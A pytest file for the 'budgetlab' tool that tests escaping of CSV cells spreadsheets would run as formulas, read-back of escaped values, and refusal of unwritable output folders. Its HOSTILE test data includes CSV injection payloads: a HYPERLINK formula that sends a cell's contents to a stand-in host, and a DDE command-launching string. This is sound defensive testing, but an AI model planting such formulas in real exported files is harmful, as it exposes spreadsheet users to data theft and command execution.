"""CSV outputs: text cells a spreadsheet would run as a formula get a leading ``'``; budgetlab's
readers read them back to the values written; an unwritable output folder is refused first."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from budgetlab import read_incidents
from budgetlab._util.csv_cells import TRIGGERS, neutralise, restore, restore_frame
from budgetlab._util.files import write_table
from budgetlab._util.plan import new_run, plan_outputs
from budgetlab.cli import main
from budgetlab.errors import ConfigError
from budgetlab.interop.openslo import read_recalibration_table

# what a spreadsheet runs, one per trigger (OWASP "CSV injection"), and harmless look-alikes
HOSTILE = ['=HYPERLINK("http://x.example/?a="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "'=already quoted", "''-twice"]
PLAIN = ["fra", "a=b", "x-y", "'quoted", "", "1e5", "turnstile"]


def _raw_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_each_trigger_gets_one_quote_and_nothing_else_changes():
    t = pd.DataFrame({"key": HOSTILE + PLAIN,
                      "rate": [-0.5 + i for i in range(len(HOSTILE + PLAIN))]})
    out = neutralise(t)
    assert out["key"].tolist() == ["'" + v for v in HOSTILE] + PLAIN  # hand-written expectation
    assert out["rate"].tolist() == t["rate"].tolist()  # numbers untouched, negative ones included
    assert t["key"].tolist() == HOSTILE + PLAIN  # the input is not changed


def test_categorical_keys_column_names_and_missing_values():
    t = pd.DataFrame({"=g": pd.Categorical(["-x", "fra", "-x"]), "s": pd.array(["@a", None, "b"],
                                                                               dtype="string")})
    out = neutralise(t)
    assert list(out.columns) == ["'=g", "s"]
    assert out["'=g"].tolist() == ["'-x", "fra", "'-x"] and isinstance(out["'=g"].dtype,
                                                                       pd.CategoricalDtype)
    assert out["s"].iloc[0] == "'@a" and out["s"].isna().tolist() == [False, True, False]


@given(st.text(alphabet=st.sampled_from(list(TRIGGERS) + ["'", "a", "1", " ", "é"]), max_size=8))
def test_the_rule_is_one_to_one(value):
    written = neutralise(pd.DataFrame({"k": [value]}))["k"].iloc[0]
    assert restore(written) == value
    assert not written or written[0] not in TRIGGERS  # no written cell starts a formula


@pytest.mark.parametrize("dtype", ["str", "category"])
def test_write_table_neutralises_and_the_file_reads_back(tmp_path, dtype):
    t = pd.DataFrame({"key": pd.Series(HOSTILE + PLAIN).astype(dtype),
                      "n": range(len(HOSTILE + PLAIN))})
    path = write_table(t, tmp_path / "t.csv")
    cells = _raw_cells(path)
    # as the spreadsheet sees them
    assert [row[0] for row in cells[1:]] == ["'" + v for v in HOSTILE] + PLAIN
    back = restore_frame(pd.read_csv(path, dtype=str, keep_default_na=False))
    assert back["key"].tolist() == HOSTILE + PLAIN


def test_parquet_outputs_are_not_changed(tmp_path):
    pytest.importorskip("pyarrow")
    t = pd.DataFrame({"key": HOSTILE})
    path = write_table(t, tmp_path / "t.parquet")
    assert pd.read_parquet(path)["key"].tolist() == HOSTILE


def test_the_recalibration_table_reads_back_the_keys_written(tmp_path):
    keys = ["=cmd", "-fra", "+ams", "@home", "'=q", "turnstile"]
    summary = pd.DataFrame({"captcha_type": keys, "events": [900] * len(keys),
                            "recommended_target": [0.93] * len(keys)})
    path = write_table(summary, tmp_path / "rec.csv")
    table = read_recalibration_table(path)
    assert table["captcha_type"].tolist() == keys and table.attrs["by"] == ["captcha_type"]


def test_the_incidents_file_reads_back_the_values_written(tmp_path):
    incidents = pd.DataFrame({"incident_id": ["=1+2", "-i2", "i3"],
                              "start": ["2026-01-05T10:00:00Z"] * 3,
                              "end": ["2026-01-05T11:00:00Z"] * 3,
                              "scope": ["region=fra", "*", "region=-x"], "kind": ["@outage",
                                                                                  "timeout", "+x"]})
    path = write_table(incidents, tmp_path / "incidents.csv")
    assert _raw_cells(path)[1][0] == "'=1+2"
    back = read_incidents(path)
    assert back["incident_id"].tolist() == ["=1+2", "-i2", "i3"]
    assert back["kind"].tolist() == ["@outage", "timeout", "+x"]
    assert back["scope"].tolist() == ["region=fra", "*", "region=-x"]


def test_a_dataset_incident_file_reads_back(tmp_path):
    from budgetlab.datasets import _read_incidents
    from budgetlab.datasets.presets import write_incidents_csv

    t = pd.DataFrame({"incident_id": ["=x"], "kind": ["-storm"], "scope": ["*"], "severity": [0.5],
                      "start": pd.to_datetime(["2026-01-05T10:00Z"], utc=True),
                      "end": pd.to_datetime(["2026-01-05T11:00Z"], utc=True)})
    t = t[["incident_id", "kind", "scope", "severity", "start", "end"]]
    from budgetlab.events.schema import INCIDENT_COLUMNS

    t = t[list(INCIDENT_COLUMNS)]
    write_incidents_csv(t, tmp_path / "inc.csv")
    back = _read_incidents(tmp_path / "inc.csv")
    assert back["incident_id"].tolist() == ["=x"] and back["kind"].tolist() == ["-storm"]


def test_the_cli_writes_group_keys_neutralised(tmp_path, capsys):
    log = tmp_path / "log.csv"
    rows = ["ts,outcome,captcha_type"] + [
        f"2026-01-05T00:{m:02d}:00Z,{'success' if m % 3 else 'timeout'},"
        f"{'=HYPERLINK(1)' if m % 2 else '-fra'}"
        for m in range(40)
    ]
    log.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "tr.csv"
    rc = main(["replay", str(log), "--by", "captcha_type", "--target", "0.5", "--window", "10min",
               "--out", str(out)])
    assert rc == 0, capsys.readouterr().err
    header, *rows = _raw_cells(out)
    col = header.index("captcha_type")
    assert {row[col] for row in rows} == {"'=HYPERLINK(1)", "'-fra"}


@pytest.fixture()
def unwritable(tmp_path: Path):
    """A folder this process cannot create files in: a temporary one made read-only, or, when
    permissions do not stop this user (root), Linux's sysfs root, which refuses new files."""
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(stat.S_IRUSR | stat.S_IXUSR)
    try:
        if not _can_create(folder):
            yield folder
            return
        sysfs = Path("/sys")
        if sysfs.is_dir() and not _can_create(sysfs):
            yield sysfs
            return
        pytest.skip("permissions do not stop this user (root) and there is no /sys: no unwritable "
                    "folder")
    finally:
        folder.chmod(stat.S_IRWXU)


def _can_create(folder: Path) -> bool:
    probe = folder / ".budgetlab-test-probe"
    try:
        probe.write_text("x")
    except OSError:
        return False
    probe.unlink()
    return True


def test_an_unwritable_folder_is_refused_by_the_users_path(unwritable):
    before = sorted(os.listdir(unwritable))
    new_run()
    with pytest.raises(ConfigError,
                       match=rf"^--out: 'out.csv' cannot be written, its folder "
                             rf"'{unwritable.name}' does not let budgetlab create files "
                             r"\((Permission denied|Read-only file system)\)"):
        plan_outputs({"--out": unwritable / "out.csv"})
    with pytest.raises(ConfigError, match=r"'t.csv': cannot be written") as info:
        write_table(pd.DataFrame({"a": [1]}), unwritable / "t.csv")
    assert ".bl-" not in str(info.value)
    assert sorted(os.listdir(unwritable)) == before


def test_the_cli_refuses_an_unwritable_folder_before_the_work(tmp_path, unwritable, capsys):
    rc = main(["replay", str(tmp_path / "missing-log.csv"), "--out", str(unwritable / "tr.csv")])
    err = capsys.readouterr().err
    assert rc == 2 and "--out: 'tr.csv' cannot be written" in err and ".bl-" not in err
    assert err.count("\n") == 1  # refused before the (missing) log was even read
